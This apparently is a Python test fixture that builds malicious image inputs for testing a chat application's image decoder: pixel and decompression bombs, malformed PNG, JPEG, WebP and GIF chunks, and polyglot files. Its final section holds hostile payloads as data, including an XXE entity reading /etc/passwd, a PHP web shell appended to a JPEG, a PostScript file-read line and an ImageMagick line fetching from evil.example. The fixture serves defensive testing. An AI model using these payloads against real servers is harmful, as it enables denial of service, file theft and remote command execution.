"""Images that attack their decoder: (name, bytes) of each."""

import gzip
import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.chat.pictures import HEIC, HTML, SVG, gif_of, picture, png_bomb, zeros

PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, data: bytes, length: int | None = None) -> bytes:
    declared = len(data) if length is None else length
    return struct.pack(">I", declared) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def header(width: int, height: int, depth: int = 8, colours: int = 2, lace: int = 0) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, lace))


def all_of_them() -> Iterator[tuple[str, bytes]]:
    for kind in (_pngs, _chunks, _moving_pngs, _jpegs, _webps, _gifs, _others):
        yield from kind()


def _pngs() -> Iterator[tuple[str, bytes]]:
    yield "png of 400 megapixels", png_bomb()
    yield "png of 53 megapixels", png_bomb(7_400, 7_200)
    pixels = chunk(b"IDAT", zlib.compress(bytes(10)))
    for width, height in (
        *((2**31 - 1, 2**31 - 1), (1, 2**31 - 1), (2**31 - 1, 1), (0, 0), (2**32 - 1, 1)),
        *((65_535, 65_535), (50_000_000, 1), (1, 50_000_000)),
    ):
        yield f"png of {width} by {height}", PNG + header(width, height) + pixels
    for depth, colours, lace in ((16, 6, 0), (16, 6, 1), (1, 0, 1), (8, 3, 1), (3, 9, 7)):
        data = header(7_000, 7_000, depth, colours, lace) + chunk(b"IDAT", zeros(10**6))
        yield f"png of depth {depth}, colours {colours}, lace {lace}", PNG + data


def _chunks() -> Iterator[tuple[str, bytes]]:
    small, end = header(4, 4), chunk(b"IDAT", zlib.compress(bytes(13 * 4))) + chunk(b"IEND", b"")
    bomb = zeros(10**9)
    for kind, data in {
        b"iCCP": b"x\0\0" + bomb,
        b"zTXt": b"x\0\0" + bomb,
        b"iTXt": b"x\0\1\0\0\0" + bomb,
        b"eXIf": b"Exif\0\0" + bytes(10**6),
        b"PLTE": bytes(10**6),
        b"tRNS": bytes(10**6),
        b"pHYs": b"",
        b"acTL": b"",
    }.items():
        yield f"png with {kind.decode()}", PNG + small + chunk(kind, data) + end
    yield "png with 50,000 texts", PNG + small + chunk(b"tEXt", b"a\0b") * 50_000 + end
    yield (
        "png with 200 packed texts",
        PNG + small + chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(10**6))) * 200 + end,
    )
    yield "png with more pixels than it has", PNG + small + chunk(b"IDAT", zeros(10**9)) + end
    yield "png that says a chunk is long", PNG + small + chunk(b"tEXt", b"", 2**31 - 1) + end
    yield "png that says a chunk is negative", PNG + small + chunk(b"tEXt", b"", 2**32 - 1) + end
    yield "png of two headers", PNG + small + header(30_000, 30_000) + end
    yield "png without a header", PNG + end
    whole = picture("PNG")
    for at in (20, 40, 60, len(whole) - 6):
        yield f"png changed at {at}", whole[:at] + bytes([whole[at] ^ 255]) + whole[at + 1 :]


def _moving_pngs() -> Iterator[tuple[str, bytes]]:
    small = header(4, 4)
    end = chunk(b"IDAT", zlib.compress(bytes(13 * 4))) + chunk(b"IEND", b"")
    for frames in (0, 1_001, 2**31 - 1, 2**32 - 1):
        moving = chunk(b"acTL", struct.pack(">II", frames, 0))
        yield f"apng of {frames} frames", PNG + small + moving + end
    size = struct.pack(">IIIIIHHBB", 0, 2**31 - 1, 2**31 - 1, 0, 0, 1, 1, 0, 0)
    moving = chunk(b"acTL", struct.pack(">II", 2, 0)) + chunk(b"fcTL", size)
    yield "apng of a large frame", PNG + small + moving + end


def _jpegs() -> Iterator[tuple[str, bytes]]:
    whole = picture("JPEG")
    frame = whole.index(b"\xff\xc0") + 5
    for height, width in ((65_535, 65_535), (65_500, 1), (0, 100), (8_000, 8_000)):
        size_bytes = struct.pack(">HH", height, width)
        yield f"jpeg of {width} by {height}", whole[:frame] + size_bytes + whole[frame + 4 :]
    yield "jpeg of 255 components", whole[: frame + 4] + b"\xff" + whole[frame + 5 :]
    scans = picture("JPEG", progressive=True)
    at = scans.index(b"\xff\xda")
    yield "jpeg of 1,000 passes", scans[:at] + scans[at:-2] * 100 + b"\xff\xd9"
    large = picture("JPEG", size=(7_000, 7_000), progressive=True)
    at = large.index(b"\xff\xda")
    yield "jpeg of 90 passes over 49 megapixels", large[:at] + large[at:-2] * 9 + b"\xff\xd9"
    segment = b"\xff\xfe" + struct.pack(">H", 65_535) + bytes(65_533)
    yield "jpeg of 200 comments", whole[:2] + segment * 200 + whole[2:]
    yield "jpeg of fill", whole[:2] + b"\xff" * 10**6 + whole[2:]
    for label, data in {
        "a ring of EXIF": b"MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08",
        "EXIF of 4 gigabytes": b"MM\0*\0\0\0\x08\0\x01\x01\x0e\0\x02\xff\xff\xff\xff\0\0\0\x08",
        "EXIF elsewhere": b"II*\0\xff\xff\xff\xff",
        "EXIF of 65,535 tags": b"MM\0*\0\0\0\x08\xff\xff"
        + b"\x01\x12\0\x03\0\0\0\x01\0\x63\0\0" * 5000,
        "a turn that is none": b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x63\0\0\0\0\0\0",
    }.items():
        size_bytes = b"Exif\0\0" + data
        exif = b"\xff\xe1" + struct.pack(">H", len(size_bytes) + 2) + size_bytes
        yield f"jpeg with {label}", whole[:2] + exif + whole[2:]
    profile = b"ICC_PROFILE\0\xff\xff" + bytes(65_000)
    part = b"\xff\xe2" + struct.pack(">H", len(profile) + 2) + profile
    yield "jpeg of a large profile", whole[:2] + part * 255 + whole[2:]
    index = b"MPF\0MM\0*\0\0\0\x08\0\x01\xb0\x02\0\x07\xff\xff\xff\xf0\0\0\0\x08"
    mpf = b"\xff\xe2" + struct.pack(">H", len(index) + 2) + index
    yield "jpeg of many pictures", whole[:2] + mpf + whole[2:]
    for share in (1, 3, 5, 7, 9):
        yield f"jpeg cut at {share}0 %", whole[: len(whole) * share // 10]


def _webps() -> Iterator[tuple[str, bytes]]:
    def riff(*parts: bytes, size: int | None = None) -> bytes:
        body = b"WEBP" + b"".join(parts)
        return b"RIFF" + struct.pack("<I", len(body) if size is None else size) + body

    def part(kind: bytes, data: bytes, size: int | None = None) -> bytes:
        declared = len(data) if size is None else size
        return kind + struct.pack("<I", declared) + data + b"\0" * (len(data) % 2)

    def canvas(width: int, height: int, flags: int = 0) -> bytes:
        three = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        return part(b"VP8X", bytes([flags, 0, 0, 0]) + three)

    lossless = part(b"VP8L", b"\x2f" + struct.pack("<I", 16_383 | 16_383 << 14) + bytes(20))
    yield "webp of 268 megapixels", riff(lossless)
    yield "webp of 2^48 pixels", riff(canvas(2**24, 2**24), lossless)
    moving = part(b"ANIM", bytes(6))
    frame = part(b"ANMF", bytes(16) + part(b"VP8L", b"\x2f" + bytes(12)))
    yield "webp of 5,000 frames", riff(canvas(1, 1, 2), moving, frame * 5_000)
    yield "webp of 16,384 squared that moves", riff(canvas(16_384, 16_384, 2), moving, frame)
    yield "webp that says it is long", riff(lossless, size=2**32 - 2)
    yield "webp that says a part is long", riff(part(b"VP8 ", bytes(10), 2**32 - 1))
    yield "webp with a profile alone", riff(canvas(4, 4, 32), part(b"ICCP", bytes(10**6)))
    solid = io.BytesIO()
    Image.new("RGB", (12_000, 12_000)).save(solid, "WEBP", lossless=True, quality=0, method=0)
    yield "webp of 144 megapixels of nothing", solid.getvalue()
    whole = picture("WEBP")
    for share in (1, 5, 9):
        yield f"webp cut at {share}0 %", whole[: len(whole) * share // 10]


def _gifs() -> Iterator[tuple[str, bytes]]:
    def gif(width: int, height: int, rest: bytes) -> bytes:
        screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0)
        return b"GIF89a" + screen + b"\0\0\0\xff\xff\xff" + rest

    dot = b"\x02\x02\x44\x01\0"

    def frame(left: int, top: int, width: int, height: int, data: bytes = dot) -> bytes:
        return b"\x2c" + struct.pack("<HHHHB", left, top, width, height, 0) + data

    yield "gif of 65,535 squared", gif(65_535, 65_535, frame(0, 0, 1, 1) + b";")
    yield "gif of a large frame", gif(1, 1, frame(0, 0, 65_535, 65_535) + b";")
    yield "gif of a frame outside", gif(1, 1, frame(65_535, 65_535, 65_535, 65_535) + b";")
    yield "gif of 100,000 frames", gif_of(100_000)
    yield "gif of 1,000 frames of 7,000 squared", gif(7_000, 7_000, frame(0, 0, 1, 1) * 999 + b";")
    yield "gif of another code", gif(9, 9, frame(0, 0, 9, 9, b"\xff\x01\x00\0") + b";")
    yield "gif of much code", gif(100, 100, frame(0, 0, 100, 100, b"\x08" + b"\xff" * 10**6) + b";")
    yield "gif of comments", gif(1, 1, (b"\x21\xfe\xff" + bytes(255) + b"\0") * 10_000 + b";")
    yield "gif without an end", gif(1, 1, b"\x21\xfe" + b"\xff" * 10**6)
    yield "gif of nothing", gif(0, 0, b";")


def _others() -> Iterator[tuple[str, bytes]]:
    png = picture("PNG")
    yield "svg", SVG
    yield (
        "svg of a billion",
        (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>'
        ),
    )
    yield (
        "svg that reads",
        (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>'),
    )
    yield "svg that is packed", gzip.compress(SVG)
    yield "page", HTML
    yield "heic", HEIC
    yield "page behind a png", png + HTML
    yield "page inside of a gif", b"GIF89a/*" + HTML + b"*/=1;"
    yield "zip behind a png", png + b"PK\x03\x04" + bytes(100)
    yield "script behind a jpeg", picture("JPEG") + b"<?php system($_GET['c']); ?>"
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n"
    yield "ghostscript", b"\xc5\xd0\xd3\xc6" + bytes(40)
    yield "magick", b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'\n"
    for form in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "JPEG2000"):
        file = io.BytesIO()
        Image.new("RGB", (16, 16)).save(file, form)
        yield f"{form.lower()} called png", file.getvalue()
    yield "wmf", b"\xd7\xcd\xc6\x9a" + bytes(60)
    yield "fits", b"SIMPLE  =                    T" + bytes(2_880)
    yield "nothing but zeros", bytes(10**6)
    yield "too much", png + bytes(20_000_001)
